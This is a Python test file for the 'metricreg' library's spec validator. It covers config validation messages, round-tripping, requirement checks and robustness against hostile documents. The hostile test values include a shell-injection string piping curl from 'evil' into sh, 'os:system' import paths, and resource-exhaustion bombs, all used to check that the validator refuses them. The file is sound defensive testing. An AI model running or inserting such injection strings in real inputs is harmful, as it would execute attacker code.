"""Specs: what a document may say, every problem of one that is wrong, and that nothing it says can hurt."""

from __future__ import annotations

import copy
import gc
import json
import time
from importlib.metadata import version
from typing import Any

import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import metricreg
from metricreg import Problem, SpecError, build, validate
from metricreg.registry import KINDS
from metricreg.spec.spec import Report

EXAMPLE: dict[str, Any] = {
    "version": 1,
    "loss": {
        "name": "contrastive",
        "pos_margin": 0.0,
        "neg_margin": 0.5,
        "distance": {"name": "lp", "p": 1},
        "reducer": {
            "name": "multiple",
            "reducers": {"pos_loss": {"name": "threshold", "low": 0.1}, "neg_loss": "mean"},
        },
        "embedding_regularizer": "zero_mean",
    },
    "miner": {"name": "multi_similarity", "epsilon": 0.1},
    "execution": {"plan": "auto"},
}


def changed(path: str, value: Any) -> dict[str, Any]:
    """The example with one place set to another value; `...` removes it."""
    document = copy.deepcopy(EXAMPLE)
    *parents, last = path.strip("/").split("/")
    node: Any = document
    for step in parents:
        node = node[step]
    if value is ...:
        del node[last]
    else:
        node[last] = value
    return document


WRONG: list[tuple[str, Any, str, str]] = [
    # what is changed, to what, where the problem is, and what it says
    ("/loss", ..., "", "'loss' is required and missing"),
    ("/loss/name", "contrastve", "/loss", "unknown loss 'contrastve'; did you mean 'contrastive'?"),
    ("/loss/neg_margn", 0.5, "/loss/neg_margn", "unknown parameter 'neg_margn'; did you mean 'neg_margin'?"),
    ("/loss/neg_margin", "0.5", "/loss/neg_margin", "should be a valid number"),
    ("/loss/neg_margin", True, "/loss/neg_margin", "should be a valid number"),
    ("/loss/distance/p", 0, "/loss/distance/p", "should be greater than 0"),
    ("/loss/distance", ["lp"], "/loss/distance", "should be the name of a distance, or an object with 'name'"),
    ("/loss/distance", {"p": 1}, "/loss/distance", "an object with 'name'"),
    ("/loss/distance/name", None, "/loss/distance", "an object with 'name'"),
    ("/loss", None, "/loss", "should be the name of a loss"),
    ("/loss/distance", "mean", "/loss/distance", "'mean' is a reducer, not a distance"),
    ("/loss/reducer/reducers/neg_loss", "maen", "/loss/reducer/reducers/neg_loss", "did you mean 'mean'?"),
    ("/loss/reducer/reducers", ..., "/loss/reducer", "'reducers' is required and missing"),
    ("/miner/epsilon", None, "/miner/epsilon", "should be a valid number"),
    ("/version", 0, "/version", "should be 1"),
    ("/execution/plan", "fast", "/execution/plan", "should be 'auto', 'dense' or 'tiled'"),
    ("/execution/tile", 0, "/execution/tile", "should be greater than or equal to 1"),
    ("/execution/tile", 1.5, "/execution/tile", "should be a valid integer"),
    ("/execution/tiles", 4, "/execution/tiles", "did you mean 'tile'?"),
    ("/minr", "batch_hard", "/minr", "unknown parameter 'minr'; did you mean 'miner'?"),
    ("/loss", "arcface", "/loss", "'num_classes' is required and missing"),
]


def resolved(document: Any, pointer: str) -> Any:
    """RFC 6901, as it is written there."""
    node = document
    for step in pointer.split("/")[1:]:
        step = step.replace("~1", "/").replace("~0", "~")
        node = node[int(step)] if isinstance(node, list) else node[step]
    return node


def check(document: Any, problems: Any) -> None:
    """What holds for every list of problems."""
    assert 0 < len(problems) <= 100
    for problem in problems:
        assert isinstance(problem, Problem)
        resolved(document, problem.pointer)
        assert 0 < len(problem.message) <= 1000
        assert problem.given is None or len(problem.given) <= 100


# -- the example ------------------------------------------------------------------------------------------------------


def test_the_example_builds_runs_and_round_trips_exactly() -> None:
    before = copy.deepcopy(EXAMPLE)
    pipeline = build(EXAMPLE)
    assert before == EXAMPLE
    assert pipeline.to_spec() == EXAMPLE
    assert build(json.loads(json.dumps(pipeline.to_spec()))).to_spec() == EXAMPLE
    x = torch.randn(12, 4, generator=torch.Generator().manual_seed(0), requires_grad=True)
    pipeline(x, torch.arange(12) % 3).backward()
    assert x.grad is not None
    assert x.grad.isfinite().all()


def test_the_example_with_every_default_round_trips_exactly() -> None:
    whole = build(EXAMPLE).to_spec(defaults=True)
    assert whole["loss"]["power"] == 1.0
    assert whole["loss"]["reducer"]["default"] == {"name": "mean"}
    assert build(whole).to_spec(defaults=True) == whole
    assert not validate(whole)


@pytest.mark.parametrize(("path", "value", "pointer", "says"), WRONG)
def test_wrong_variants_of_the_example_are_located(path: str, value: Any, pointer: str, says: str) -> None:
    document = changed(path, value)
    report = validate(document)
    check(document, report)
    found = [p for p in report if p.pointer == pointer]
    assert len(found) >= 1
    assert says in found[0].message
    if (path, value) != ("/loss", "arcface"):
        assert len(report) == 1
    with pytest.raises(SpecError) as caught:
        build(document)
    assert caught.value.problems == report.problems


def test_every_problem_that_no_other_hides_is_listed() -> None:
    document = copy.deepcopy(EXAMPLE)
    apart = [w for w in WRONG if w[0] in {
        "/loss/neg_margn", "/loss/neg_margin", "/loss/distance/p", "/loss/reducer/reducers/neg_loss", "/miner/epsilon", "/version",
        "/execution/plan", "/execution/tiles", "/minr",
    } and w[1] is not True]  # fmt: skip
    for path, value, _, _ in apart:
        *parents, last = path.strip("/").split("/")
        node = document
        for step in parents:
            node = node[step]
        node[last] = value
    report = validate(document)
    check(document, report)
    assert {p.pointer for p in report} == {pointer for _, _, pointer, _ in apart}
    assert len(report) == len(apart) == 9


def test_problems_are_shown_with_what_was_given() -> None:
    text = str(validate(changed("/loss/distance/p", -1)))
    assert text == "/loss/distance/p: should be greater than 0 (given: -1)"


# -- what a document may say ------------------------------------------------------------------------------------------


def test_a_name_alone_is_a_spec_of_a_component() -> None:
    assert build({"loss": "contrastive"}).to_spec() == {"version": 1, "loss": "contrastive"}
    assert build({"loss": {"name": "contrastive"}, "miner": "batch_hard"}).to_spec() == {
        "version": 1,
        "loss": "contrastive",
        "miner": "batch_hard",
    }


@pytest.mark.parametrize("spec", [{}, [], "contrastive", None, 3, {"loss": {}}, {"name": "contrastive"}])
def test_what_is_no_spec_is_said(spec: Any) -> None:
    check(spec, validate(spec))
    with pytest.raises(SpecError):
        build(spec)


def test_a_component_in_place_of_a_spec_gets_a_hint() -> None:
    (problem,) = validate({"name": "contrastive", "neg_margin": 1})
    assert 'a spec holds it as {"loss": {"name": ...}}' in problem.message


def test_an_editors_schema_line_is_allowed() -> None:
    assert not validate({"$schema": "./metricreg.schema.json", **EXAMPLE})
    (problem,) = validate({"$schema": 3, **EXAMPLE})
    assert problem.pointer == "/$schema"


@pytest.mark.parametrize("number", [1.0, 1])
def test_version_one_may_be_written_as_json_writes_it(number: float) -> None:
    assert not validate({"version": number, "loss": "contrastive"})


@pytest.mark.parametrize("number", [True, "1", None, 0, 2, 1.5, []])
def test_other_versions_are_refused(number: Any) -> None:
    (problem,) = validate({"version": number, "loss": "contrastive"})
    assert problem.pointer == "/version"


def test_null_means_absent_where_a_slot_is_optional() -> None:
    spec = {"loss": {"name": "contrastive", "reducer": None}, "miner": None, "execution": None}
    assert build(spec).to_spec() == {"version": 1, "loss": {"name": "contrastive", "reducer": None}}


def test_execution_is_kept() -> None:
    spec = {"version": 1, "loss": "contrastive", "execution": {"plan": "tiled", "tile": 4.0}}
    pipeline = build(spec)
    assert pipeline.execution == metricreg.Execution("tiled", 4)
    assert pipeline.to_spec() == spec


# -- requirements -----------------------------------------------------------------------------------------------------


def test_met_requirements_are_kept() -> None:
    spec = {
        "version": 1,
        "loss": "contrastive",
        "requires": {"metricreg": ">=0.1", "TORCH": f"=={version('torch')}", "numpy": ""},
    }
    assert build(spec).to_spec() == spec


@pytest.mark.parametrize(
    ("name", "versions", "says"),
    [
        ("metricreg", ">=99", f"metricreg {version('metricreg')} is installed, and this spec needs >=99; pip install 'metricreg>=99'"),
        ("no-such-thing", ">=1,<2", "'no-such-thing' is not installed; pip install 'no-such-thing>=1,<2'"),
        ("torch", "newest", "'newest' is no version specifier; write for example '>=1.2,<2'"),
        ("", ">=1", "is no name of a distribution"),
        ("../torch", ">=1", "'../torch' is no name of a distribution"),
        ("a/b~c\0", ">=1", "is no name of a distribution"),
        ("x'; curl evil | sh; '", ">=1", "is no name of a distribution"),
        ("no-such-thing", "===1'|evil", """pip install 'no-such-thing===1'"'"'|evil'"""),
        ("torch", 2, "should be a valid string"),
        ("torch", None, "should be a valid string"),
    ],
)  # fmt: skip
def test_an_unmet_requirement_is_located_and_says_what_to_install(name: str, versions: Any, says: str) -> None:
    document = {"loss": "contrastive", "requires": {"numpy": ">=1", name: versions}}
    report = validate(document)
    check(document, report)
    (problem,) = report
    assert resolved(document, problem.pointer) == versions
    assert problem.pointer.startswith("/requires/")
    assert says in problem.message


@pytest.mark.parametrize("found", [None, "no version"])
def test_a_distribution_of_no_known_version_meets_no_requirement(found: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("metricreg.spec.spec.version", lambda name: found)
    (problem,) = validate({"loss": "contrastive", "requires": {"numpy": ">=1"}})
    assert f"numpy {found} is installed, and this spec needs >=1" in problem.message


def test_every_unmet_requirement_is_a_problem_of_its_own() -> None:
    report = validate({"loss": "contrastve", "requires": {"aaa-x": ">=1", "numpy": ">=1", "bbb-x": "?"}})
    assert sorted(p.pointer for p in report) == ["/loss", "/requires/aaa-x", "/requires/bbb-x"]


def test_an_unknown_namespace_says_what_to_install_if_requires_tells() -> None:
    spec: dict[str, Any] = {"loss": {"name": "contrastive", "reducer": "acme/softmin"}}
    (problem,) = validate(spec)
    assert problem.pointer == "/loss/reducer"
    assert "no installed plugin has the namespace 'acme'; install the distribution that provides" in problem.message
    spec["requires"] = {"acme-reducers": ">=1.2,<2", "numpy": ">=1"}
    reducer, requirement = sorted(validate(spec), key=lambda p: p.pointer)
    assert reducer.message.endswith("no installed plugin has the namespace 'acme'; pip install 'acme-reducers>=1.2,<2'")
    assert requirement.pointer == "/requires/acme-reducers"
    for broken in ([], "acme", {"acme": 3}, {"acme": None}, None, {3: 4}):
        assert "/loss/reducer" in {p.pointer for p in validate({**spec, "requires": broken})} or broken == {3: 4}


# -- hostile documents ------------------------------------------------------------------------------------------------


def nested(levels: int, inner: Any) -> Any:
    for _ in range(levels):
        inner = {"name": "multiple", "losses": [inner]}
    return inner


HOSTILE: dict[str, Any] = {
    "deep and right": {"loss": nested(15, "contrastive")},
    "deep and wrong": {"loss": nested(15, "contrastve")},
    "too deep": {"loss": nested(16, "contrastive")},
    "very deep": {"loss": nested(10_000, "contrastive")},
    "many components": {"loss": {"name": "multiple", "losses": ["contrastive"] * 90_000}},
    "many unknown": {"loss": {"name": "multiple", "losses": [f"acme/x{i}" for i in range(90_000)]}},
    "many unknown parameters": {"loss": {"name": "contrastive", **{f"neg_margi{i}": 1 for i in range(90_000)}}},
    "many unknown keys": {"loss": "contrastive", **{f"los{i}": 1 for i in range(30_000)}},
    "many requirements": {"loss": "acme/x", "requires": {f"acme-{i}": ">=1" for i in range(30_000)}},
    "many requirements of many": {
        "loss": {"name": "multiple", "losses": ["acme/x"] * 2_000},
        "requires": {f"acme-{i}": ">=1" for i in range(100)},
    },
    "long name": {"loss": "a" * 10**6},
    "long namespace": {"loss": "a" * 10**6 + "/" + "b" * 10**6},
    "long names of many kinds": {"loss": {"name": "a" * 10**6, "a" * 10**6: 1}, "b" * 10**6: 1, "miner": "c" * 10**6},
    "long parameter": {"loss": {"name": "contrastive", "a" * 10**6: 1}},
    "long value": {"loss": {"name": "contrastive", "neg_margin": "a" * 10**6}},
    "long requirement": {"loss": "contrastive", "requires": {"a" * 10**6: ">=" + "1" * 10**6, "b": "=" * 10**6}},
    "long key of a rule": {"loss": {"name": "multiple", "losses": {"a": "ntxent"}, "weights": {"b" * 10**6: 1}}},
    "large values": {"loss": {"name": "contrastive", "neg_margin": [[0] * 1000] * 90, "distance": [[0] * 100]}},
    "numbers of all sizes": {"loss": {"name": "triplet_margin", "margin": 10**400, "triplets_per_anchor": 10**5000}},
    "wrong everywhere": {"version": [], "loss": [], "miner": [], "requires": [], "execution": [], "$schema": []},
    "names that are no names": {"loss": {"name": {"name": {"name": []}}}, "miner": {"name": ["x"]}},
    "import paths": {"loss": "os:system", "miner": {"name": "metricreg.miners.batch_hard:BatchHardMiner"}},
    "dunders": {
        "loss": {"name": "contrastive", "__class__": "x", "__init__": {}, "_construction": 1, "training": True}
    },
    "format strings": {"loss": "{message}", "miner": "%s{0}{cause}", "requires": {"{message}": "{}"}},
    "weird pointers": {"loss": {"name": "contrastive", "a/b~c": 1, "": 1, "~1": 2, "/": 3, "\n": 4, "é\u2028": 5}},
    "not json": {"loss": {1, 2}, "miner": b"x", 3: object(), "execution": float("nan"), "version": "\ud800"},
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_documents_are_refused_quickly_with_pointers_that_resolve(case: str) -> None:
    document = HOSTILE[case]
    start = time.process_time()
    report = validate(document)
    assert time.process_time() - start < 10.0
    if case == "deep and right":
        assert not report
        return
    check(document, report)
    assert len(str(report)) < 100 * 2000


def test_nothing_is_imported_but_the_components_that_the_spec_names(monkeypatch: pytest.MonkeyPatch) -> None:
    imported: list[str] = []
    monkeypatch.setattr("metricreg.registry.lazy.importlib.import_module", lambda name: imported.append(name))
    for name in ("os:system", "os.path:join", "acme/os:system", "metricreg.losses.ntxent:NTXentLoss", "builtins"):
        assert len(validate({"loss": name})) == 1
        assert len(validate({"loss": {"name": name, "argument": "x"}})) == 1
    assert imported == []


def test_cycles_and_shared_bombs_are_refused() -> None:
    loop: dict[str, Any] = {"name": "multiple"}
    loop["losses"] = [loop]
    (problem,) = validate({"loss": loop})
    assert problem.pointer == "/loss/losses/0"
    bomb: Any = "contrastive"
    for _ in range(15):
        bomb = {"name": "multiple", "losses": [bomb, bomb]}
    (problem,) = validate({"loss": bomb})
    assert "values" in problem.message


NAMES = [
    *(e.name for e in metricreg.default_registry()),
    "acme/x", "local/x", "contrastve", "", "a" * 200,
]  # fmt: skip
KEYS = [
    "name", "loss", "miner", "version", "requires", "execution", "plan", "tile", "$schema", "distance", "reducer", "reducers", "losses",
    "weights", "miners", "p", "power", "normalize", "neg_margin", "low", "high", "default", "num_classes", "embedding_size",
    "embedding_regularizer", "temperature", "triplets_per_anchor", "weight_init", "epsilon", "aggregation", "a/b", "~", "",
]  # fmt: skip
SCALARS = (
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8) | st.sampled_from(NAMES)
    | st.sampled_from([0, 1, -1, 4.0, 2**63, 2**2000, 1e308, float("nan"), "auto", "normal", "all", ">=1", "\ud800"])
)  # fmt: skip
JSON_LIKE = st.recursive(
    SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(KEYS) | st.text(max_size=5), inner, max_size=5),
    max_leaves=20,
)  # fmt: skip


@st.composite
def plausible(draw: st.DrawFn) -> Any:
    """A spec drawn from the JSON Schema, with at most a few things wrong."""
    errors = draw(st.integers(0, 2))

    def value(schema: dict[str, Any], depth: int) -> Any:
        nonlocal errors
        if errors and draw(st.integers(0, 12)) == 5:
            errors -= 1
            return draw(JSON_LIKE)
        if "$ref" in schema:
            name = schema["$ref"].rpartition("/")[2]
            return component(name, depth) if name in KINDS else value(DEFINITIONS[name], depth)
        if "anyOf" in schema:
            last = [s for s in schema["anyOf"] if s.get("type") == "null"]
            return value(draw(st.sampled_from(schema["anyOf"] if depth else last or schema["anyOf"])), depth)
        if "const" in schema or "enum" in schema:
            return draw(st.sampled_from(schema.get("enum") or [schema["const"]]))
        if "properties" in schema:
            wanted = set(schema.get("required", ()))
            return {
                k: value(of_key, depth)
                for k, of_key in schema["properties"].items()
                if k in wanted or draw(st.booleans())
            }
        if schema["type"] == "object":
            return {
                k: value(schema["additionalProperties"], depth)
                for k in draw(st.lists(st.sampled_from(TERMS), max_size=2))
            }
        if "prefixItems" in schema:
            return [value(item, depth) for item in schema["prefixItems"]]
        if schema["type"] == "array":
            return [value(schema["items"], depth) for _ in range(draw(st.integers(0, 2)))]
        return draw(SIMPLE[schema["type"]])

    def component(kind: str, depth: int) -> Any:
        nonlocal errors
        names = [key for key in DEFINITIONS if key.startswith(kind + ".") and "name" in DEFINITIONS[key]["properties"]]
        definition = DEFINITIONS[draw(st.sampled_from(names))]
        keys = [
            k
            for k in definition["properties"]
            if k != "name" and (k in definition["required"] or draw(st.integers(0, 3)) == 0)
        ]
        spec = {"name": definition["title"]} | {k: value(definition["properties"][k], depth - 1) for k in keys}
        if errors and draw(st.integers(0, 12)) == 5:
            errors -= 1
            spec.pop(draw(st.sampled_from(sorted(spec))))
        return spec["name"] if spec.keys() == {"name"} and draw(st.booleans()) else spec

    spec = {"loss": component("loss", 3)}
    for key in draw(
        st.lists(st.sampled_from(["miner", "execution", "version", "requires", "$schema", "minr"]), max_size=2)
    ):
        spec[key] = component("miner", 1) if key == "miner" else draw(st.sampled_from(PARTS[key]) | JSON_LIKE)
    return spec


DEFINITIONS = metricreg.json_schema()["$defs"]
TERMS = ["pos_loss", "neg_loss", "loss", "a/b", "~"]
SIMPLE: dict[str, Any] = {
    "null": st.none(),
    "boolean": st.booleans(),
    "string": st.text(max_size=5),
    "integer": st.integers(1, 5) | st.sampled_from([2.0, 0]),
    "number": st.floats(0.0625, 1, width=16) | st.integers(1, 3) | st.sampled_from([0, -1, 0.5, 2.5]),
}
PARTS: dict[str, list[Any]] = {
    "execution": [{}, {"plan": "tiled", "tile": 3}, {"plan": "dense"}, {"tile": 0}, None],
    "version": [1, 1.0, 2, True],
    "requires": [{}, {"numpy": ">=1"}, {"numpy": ">=99"}, {"no-such-thing": ""}],
    "$schema": ["x.json", None],
    "minr": ["batch_hard"],
}


@settings(deadline=None, derandomize=True, max_examples=200, suppress_health_check=list(HealthCheck))
@given(plausible() | JSON_LIKE)
def test_validate_never_raises_whatever_it_is_given(document: Any) -> None:
    start = time.process_time()
    report = validate(document)
    assert time.process_time() - start < 5.0
    if report:
        check(document, report)
    else:
        _build_and_round_trip(document)


def _build_and_round_trip(document: Any) -> None:
    if validate(document).unchecked:
        return
    pipeline = build(document)
    spec = pipeline.to_spec()
    assert build(spec).to_spec() == spec
    whole = pipeline.to_spec(defaults=True)
    assert build(json.loads(json.dumps(whole))).to_spec(defaults=True) == whole


def test_validation_leaves_no_tensors_behind() -> None:
    spec = {"loss": {"name": "arcface", "num_classes": 50, "embedding_size": 7}}
    validate(spec)
    gc.collect()
    before = sum(issubclass(type(o), torch.Tensor) for o in gc.get_objects())
    for _ in range(5):
        validate(spec)
        validate({"loss": {**spec["loss"], "margin": 1e9}})
    gc.collect()
    assert sum(issubclass(type(o), torch.Tensor) for o in gc.get_objects()) == before


# -- the report -------------------------------------------------------------------------------------------------------


def test_a_report_is_a_sequence_that_is_empty_for_a_good_spec() -> None:
    good, bad = validate(EXAMPLE), validate({"loss": 3, "miner": 4})
    assert isinstance(good, Report)
    assert (list(good), len(good), bool(good), str(good)) == ([], 0, False, "no problems")
    assert [p.pointer for p in bad] == ["/loss", "/miner"]
    assert bad[0] == bad[:1][0]
    assert bad[-1].pointer == "/miner"
    assert str(bad).count("\n") == 1
